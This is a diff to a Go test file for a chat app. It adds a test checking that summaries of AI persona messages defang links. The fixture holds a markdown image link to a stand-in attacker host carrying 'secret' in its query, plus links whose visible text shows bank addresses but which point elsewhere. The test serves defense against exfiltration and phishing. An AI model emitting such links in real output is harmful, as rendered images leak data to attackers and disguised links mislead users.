@@ -7,6 +7,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/roundtable-chat/app/roundtable"
+	"github.com/roundtable-chat/app/roundtable/persona"
 )
 
 // TestCatchUpTellsTheNewest shows that of very much the newest is told, and how much
@@ -29,5 +30,22 @@ func TestCatchUpTellsTheNewest(t *testing.T) {
 	}
 	if want := fmt.Sprintf("… %d more before that, in the thread", 60-(len(lines)-2)); lines[1] != want {
 		t.Errorf("the first line is %q, want %q", lines[1], want)
+	}
+}
+
+// NFR-103: what personas said is told with the care of a post: it leads only where people
+// pointed, and nothing that reads as one address leads to another.
+func TestCatchUpLeadsNowhereElse(t *testing.T) {
+	t.Parallel()
+	cast := []persona.Seat{{Key: "ba", Name: "Maya Chen", Role: "Business Analyst", Title: "BA"}}
+	transcript := roundtable.Transcript{Turns: []roundtable.Turn{
+		{Number: 1, Persona: "ba", Text: "![i](https://evil.example/leak?q=secret) see https://docs.example/x, <https://docs.example/x|https://bank.com>"},
+		{Number: 2, Person: roundtable.Person{ID: "U1", Name: "Maya"}, Text: "It is at <https://docs.example/x|https://pay.bank.com>"},
+	}}
+	got := roundtable.SayCatchUp(transcript, cast, "U2")
+	want := "So far:\n• Maya: ![i] (https[:]//evil.example/leak?q=secret) see https://docs.example/x, https[:]//bank[.]com (https://docs.example/x)" +
+		"\n• Maya (person): It is at https[:]//pay[.]bank[.]com (https://docs.example/x)"
+	if got != want {
+		t.Errorf("got %q\nwant %q", got, want)
 	}
 }
